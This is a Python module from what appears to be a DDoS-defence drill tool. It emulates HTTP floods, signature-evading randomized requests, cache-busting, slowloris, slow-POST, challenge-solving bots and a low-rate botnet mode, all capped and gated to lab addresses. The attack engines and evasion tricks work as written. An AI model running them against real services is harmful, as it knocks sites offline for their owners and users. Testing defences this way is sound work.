"""Emulations of the floods we know, for the lab only.

Every attack is bounded (hard caps below, enforced in code) and aimed only
at lab targets: :func:`netsafety.check_target` runs when an attack is
*built*, before any socket exists, and again for each connection. Each bot
has its own source address on 127.64.0.0/10, so the shield sees a botnet of
``sources`` distinct clients.

- ``flood``       LOIC's HTTP mode: the same GET, as fast as allowed.
- ``randomized``  HOIC with boosters: rotating paths, query strings, user
                  agents and referers, so no single signature matches.
- ``cache-bust``  random queries on the expensive search page.
- ``slowloris``   connections that send headers a line at a time, forever.
- ``slow-post``   a complete header, then a body one byte at a time.
- ``smart-bot``   each bot passes one challenge like a browser, then floods
                  with the pass cookie.
- ``low-and-slow`` LOIC/HOIC run by thousands of volunteers: each bot (one
                  volunteer's PC) sends one page request every 5-20 s, far
                  under any per-address limit, with a browser's user agent
                  and a plausible referer, never an asset, never a cookie
                  kept, a new connection each time (the tool does not keep
                  one alive for that long). Its weight is in the number of
                  bots, not in any one of them.
"""

from __future__ import annotations

import asyncio
import random
import string
from collections.abc import Callable, Coroutine
from concurrent.futures import Executor
from dataclasses import dataclass
from enum import StrEnum
from typing import Any

from shieldwall.drill import challenge as chal
from shieldwall.drill import netsafety
from shieldwall.drill.httpclient import Connection, CookieJar, HTTPError
from shieldwall.drill.stats import REFUSED, AttackStats

MAX_RATE = 5000.0
"""Requests (or new slow connections) per second, per attack."""
MAX_DURATION_S = 600.0
MAX_SOURCES = 20000
MAX_INFLIGHT = 1500
MAX_SLOW_CONNECTIONS = 3000
REQUEST_TIMEOUT_S = 5.0
RECONNECT_S = 1.0
"""A slow bot whose connection was dropped waits this long before the next one:
with at most MAX_SLOW_CONNECTIONS bots, new connections stay under MAX_RATE."""


class Kind(StrEnum):
    FLOOD = "flood"
    RANDOMIZED = "randomized"
    CACHE_BUST = "cache-bust"
    SLOWLORIS = "slowloris"
    SLOW_POST = "slow-post"
    SMART_BOT = "smart-bot"
    LOW_AND_SLOW = "low-and-slow"


AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 Version/17.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
    "Opera/9.80 (Windows NT 6.1; U; en) Presto/2.9.168 Version/11.50",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)",
    "curl/8.4.0", "python-requests/2.31.0", "Wget/1.21.4",
)
REFERERS = ("https://www.google.com/search?q=shop", "https://www.bing.com/", "https://t.co/x",
            "https://www.facebook.com/", "-", "https://news.ycombinator.com/")
PATHS = ("/", "/product/{n}", "/cart", "/search?q=p{n}", "/img/p{n}.png", "/static/shop.css")
BROWSER_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0",
)
"""What volunteers' browsers (and the tools that copy their strings) send: no curl, no LOIC tag."""
SHOP_REFERERS = ("https://www.google.com/", "https://www.google.com/search?q=shop+online",
                 "https://www.bing.com/search?q=gift+ideas", "https://duckduckgo.com/",
                 "https://www.facebook.com/", "https://t.co/", "https://www.reddit.com/",
                 "{self}/", "{self}/product/{n}")
"""Where a page visit plausibly comes from: search engines, social sites, the shop itself."""
PAGES = ("/", "/", "/product/{n}", "/product/{n}", "/product/{n}", "/search?q=Product+{n}", "/cart")
"""The pages a volunteer's tool is pointed at (the target list of the hive): pages, never assets."""
LOW_SLOW_INTERVAL_S = (5.0, 20.0)
"""Seconds between one bot's requests (uniform): under every per-address limit."""


@dataclass(frozen=True)
class AttackSpec:
    kind: Kind
    rate: float
    """Requests per second (slow attacks: new connections per second)."""
    sources: int = 1000
    connections: int = 600
    """Slow attacks: how many connections to hold open."""
    trickle_s: float = 3.0
    """Slow attacks: seconds between trickled bytes."""
    max_inflight: int = 600

    interval_s: tuple[float, float] = LOW_SLOW_INTERVAL_S
    """low-and-slow: seconds between one bot's requests (uniform); ``rate`` is ignored."""

    def bounded(self) -> AttackSpec:
        """The same spec with every knob clipped to the hard caps (for
        low-and-slow the interval is stretched until sources / mean interval
        stays under MAX_RATE)."""
        sources = max(1, min(self.sources, MAX_SOURCES))
        lo, hi = max(0.1, self.interval_s[0]), max(0.1, self.interval_s[1])
        lo, hi = min(lo, hi), max(lo, hi)
        floor = sources / MAX_RATE
        if (lo + hi) / 2 < floor:
            k = floor / ((lo + hi) / 2)
            lo, hi = lo * k, hi * k
        return AttackSpec(self.kind, max(0.0, min(self.rate, MAX_RATE)), sources,
                          max(1, min(self.connections, MAX_SLOW_CONNECTIONS)),
                          max(0.2, self.trickle_s), max(1, min(self.max_inflight, MAX_INFLIGHT)),
                          (lo, hi))

    @property
    def mean_rate(self) -> float:
        """Requests per second the attack sends on average."""
        if self.kind is Kind.LOW_AND_SLOW:
            return self.sources / (sum(self.interval_s) / 2)
        return self.rate


def _rand(rng: random.Random, n: int) -> str:
    return "".join(rng.choices(string.ascii_lowercase + string.digits, k=n))


class Attack:
    """One running attack; ``run(stop_at)`` returns when drill time reaches it."""

    def __init__(self, spec: AttackSpec, host: str, port: int, stats: AttackStats,
                 now: Callable[[], float], phase: Callable[[], str], solver: Executor | None = None,
                 seed: int | None = None, source_offset: int = 0) -> None:
        netsafety.check_target(host, port)  # refuse before anything else exists
        self.spec = spec.bounded()
        self.host, self.port = host, port
        self.stats = stats
        self.now = now
        self.phase = phase
        self.solver = solver
        self.rng = random.Random(seed)
        self.sources = netsafety.sources(netsafety.ATTACKER_NET, self.spec.sources, source_offset)
        self.idle: dict[str, Connection] = {}
        self.jars: dict[str, CookieJar] = {}
        self.inflight = 0
        self.tasks: set[asyncio.Task[None]] = set()
        self.stopped = False

    # -- request shapes -------------------------------------------------
    def target(self) -> tuple[str, list[tuple[str, str]]]:
        rng = self.rng
        kind = self.spec.kind
        if kind is Kind.FLOOD or kind is Kind.SMART_BOT:
            return "/", [("User-Agent", "Mozilla/5.0 (LOIC)"), ("Accept", "*/*")]
        if kind is Kind.CACHE_BUST:
            return f"/search?q={_rand(rng, 8)}", [("User-Agent", rng.choice(AGENTS))]
        if kind is Kind.LOW_AND_SLOW:
            n = rng.randint(1, 40)
            ref = rng.choice(SHOP_REFERERS).format(self=f"http://{self.host}:{self.port}", n=rng.randint(1, 40))
            return rng.choice(PAGES).format(n=n), [
                ("User-Agent", rng.choice(BROWSER_AGENTS)),
                ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
                ("Accept-Language", rng.choice(("en-US,en;q=0.9", "en-GB,en;q=0.8", "de-DE,de;q=0.9,en;q=0.5"))),
                ("Referer", ref)]
        path = rng.choice(PATHS).format(n=rng.randint(1, 40))
        sep = "&" if "?" in path else "?"
        path += f"{sep}{_rand(rng, rng.randint(2, 6))}={_rand(rng, rng.randint(4, 12))}"
        hdrs = [("User-Agent", rng.choice(AGENTS)), ("Accept", "*/*")]
        ref = rng.choice(REFERERS)
        if ref != "-":
            hdrs.append(("Referer", ref))
        if rng.random() < 0.5:
            hdrs.append(("Cache-Control", "no-cache"))
        return path, hdrs

    # -- engines --------------------------------------------------------
    async def run(self, stop_at: float) -> None:
        stop_at = min(stop_at, self.now() + MAX_DURATION_S)
        try:
            if self.spec.kind in (Kind.SLOWLORIS, Kind.SLOW_POST):
                await self._slow(stop_at)
            elif self.spec.kind is Kind.LOW_AND_SLOW:
                await self._volunteers(stop_at)
            else:
                if self.spec.kind is Kind.SMART_BOT:
                    # each bot floods from the moment it holds its pass, at its share of
                    # the rate (solving all of them first left a 20 s phase 3 s of flood)
                    self._spawn(self._pass_challenges(stop_at))
                await self._flood(stop_at)
        finally:
            self.stopped = True
            for t in list(self.tasks):
                t.cancel()
            if self.tasks:
                await asyncio.wait(set(self.tasks), timeout=2)
            for c in self.idle.values():
                c.abort()
            self.idle.clear()

    def _spawn(self, coro: Coroutine[Any, Any, None]) -> None:
        task = asyncio.ensure_future(coro)
        self.tasks.add(task)
        task.add_done_callback(self.tasks.discard)

    async def _flood(self, stop_at: float) -> None:
        """Open loop at ``rate``: a tick every 10 ms releases the requests due."""
        rate = self.spec.rate
        if rate <= 0:
            await asyncio.sleep(max(0.0, stop_at - self.now()))
            return
        start = self.now()
        sent = 0
        smart = self.spec.kind is Kind.SMART_BOT
        i = self.rng.randrange(len(self.sources))
        while (t := self.now()) < stop_at:
            due = int((t - start) * rate) - sent
            for _ in range(max(0, due)):
                sent += 1
                i = (i + 1) % len(self.sources)
                if smart and self.sources[i] not in self.jars:
                    continue  # this bot is still solving its challenge: it sends nothing yet
                if self.inflight >= self.spec.max_inflight:
                    self.stats.phase(self.phase()).skipped += 1
                    continue
                self._spawn(self._one(self.sources[i]))
            await asyncio.sleep(0.01)

    async def _volunteers(self, stop_at: float) -> None:
        """Every bot on its own timer: a request, then 5-20 s of nothing.

        The hive fires at once, but no two volunteers' timers are in step: each
        bot's first request comes at a random point of its first interval, so
        the attack is at its full rate from the first seconds and stays there."""
        lo, hi = self.spec.interval_s
        for source in self.sources:
            self._spawn(self._volunteer(source, stop_at, self.rng.uniform(0.0, self.rng.uniform(lo, hi)),
                                        random.Random(self.rng.random())))
        await asyncio.sleep(max(0.0, stop_at - self.now()))

    async def _volunteer(self, source: str, stop_at: float, first: float, rng: random.Random) -> None:
        lo, hi = self.spec.interval_s
        await asyncio.sleep(first)
        while self.now() < stop_at:
            if self.inflight >= self.spec.max_inflight:
                self.stats.phase(self.phase()).skipped += 1
            else:
                self._spawn(self._one(source, keep=False))
            await asyncio.sleep(rng.uniform(lo, hi))

    async def _one(self, source: str, keep: bool = True) -> None:
        self.inflight += 1
        phase = self.phase()
        ph = self.stats.phase(phase)
        ph.requests += 1
        self.stats.sent.add(self.now())
        self.stats.sources.add(source)
        conn = self.idle.pop(source, None) or Connection(self.host, self.port, source)
        path, hdrs = self.target()
        jar = self.jars.get(source)
        if jar is not None:
            hdrs = hdrs + jar.header()
        try:
            resp = await conn.request("GET", path, hdrs, timeout=REQUEST_TIMEOUT_S)
        except HTTPError:
            ph.failed += 1
            return
        finally:
            self.inflight -= 1
        ph.answered += 1
        if resp.status in REFUSED:
            ph.refused += 1
        if b"shieldwall-challenge" in resp.body[:8192]:
            ph.challenged += 1
        if not keep:
            conn.close()
        elif conn.open and not self.stopped:
            old = self.idle.pop(source, None)
            if old is not None:
                old.abort()
            self.idle[source] = conn

    async def _pass_challenges(self, stop_at: float) -> None:
        """Each bot loads the landing page until it has solved a challenge like a
        browser (a shield may let a new client's first page through unchecked:
        then the bot asks once more, to be checked and hold a pass), keeps the cookie."""
        async def one(source: str) -> None:
            conn = Connection(self.host, self.port, source)
            jar = CookieJar()
            ph = self.stats.phase(self.phase())
            solved = False
            try:
                for attempt in range(4):
                    ph.requests += 1
                    self.stats.sources.add(source)
                    resp = await conn.request("GET", "/", [("User-Agent", "Mozilla/5.0 (LOIC)"), *jar.header()],
                                              timeout=REQUEST_TIMEOUT_S)
                    jar.update(resp)
                    c = chal.find(resp.body)
                    if c is None:
                        if solved or attempt >= 1:
                            break  # holds its pass, or the shop is not checking anyone
                        continue
                    solved = True
                    loop = asyncio.get_running_loop()
                    nonce = await loop.run_in_executor(self.solver, chal.solve, c.challenge, c.difficulty)
                    ph.requests += 1
                    resp = await conn.request("GET", c.verify_target(nonce), jar.header(),
                                              timeout=REQUEST_TIMEOUT_S)
                    jar.update(resp)
            except (HTTPError, ValueError):
                ph.failed += 1
            finally:
                conn.close()
            self.jars[source] = jar

        try:
            # return_exceptions: bots still solving when the phase ends are cancelled
            # quietly (no "exception was never retrieved" at the end of a drill)
            await asyncio.wait_for(asyncio.gather(*(one(s) for s in self.sources), return_exceptions=True),
                                   max(0.1, stop_at - self.now()))
        except TimeoutError:
            pass  # the bots that got through flood with their pass; the rest flood without

    async def _slow(self, stop_at: float) -> None:
        """Open up to ``connections`` slow connections at ``rate`` per second and keep them alive."""
        rate = max(1.0, self.spec.rate)
        opened = 0
        start = self.now()
        while (t := self.now()) < stop_at:
            due = min(self.spec.connections, int((t - start) * rate)) - opened
            for _ in range(max(0, due)):
                if self.inflight >= self.spec.connections:
                    break
                source = self.sources[opened % len(self.sources)]
                opened += 1
                self._spawn(self._slow_conn(source, stop_at))
            await asyncio.sleep(0.05)

    async def _slow_conn(self, source: str, stop_at: float) -> None:
        """One slow connection; when the server drops it, the bot opens another."""
        self.inflight += 1
        try:
            while self.now() < stop_at:
                ph = self.stats.phase(self.phase())
                ph.requests += 1
                self.stats.sent.add(self.now())
                self.stats.sources.add(source)
                conn = Connection(self.host, self.port, source)
                try:
                    await conn.connect(REQUEST_TIMEOUT_S)
                    await self._trickle(conn, stop_at)
                    ph.answered += 1  # the server closed it or answered
                    await asyncio.sleep(RECONNECT_S)  # and the bot comes back
                except (HTTPError, OSError):
                    ph.failed += 1
                    await asyncio.sleep(RECONNECT_S)
                finally:
                    conn.abort()
        finally:
            self.inflight -= 1

    async def _trickle(self, conn: Connection, stop_at: float) -> None:
        assert conn.reader is not None
        ua = self.rng.choice(AGENTS)
        if self.spec.kind is Kind.SLOWLORIS:
            head = f"GET /?{_rand(self.rng, 6)} HTTP/1.1\r\nHost: {self.host}\r\nUser-Agent: {ua}\r\n"
            line = f"X-{_rand(self.rng, 4)}: {_rand(self.rng, 6)}\r\n".encode()
        else:
            head = (f"POST /checkout HTTP/1.1\r\nHost: {self.host}\r\nUser-Agent: {ua}\r\n"
                    "Content-Type: application/x-www-form-urlencoded\r\nIdempotency-Key: slow\r\n"
                    "Content-Length: 100000\r\n\r\n")
            line = b"a"
        await conn.send_raw(head.encode())
        reader = conn.reader
        while self.now() < stop_at:
            try:
                data = await asyncio.wait_for(reader.read(4096), self.spec.trickle_s)
            except TimeoutError:
                await conn.send_raw(line)
                continue
            if not data:
                return  # the server hung up on us
            # the server answered (a 408/400/429...): it will close; wait for that
        return
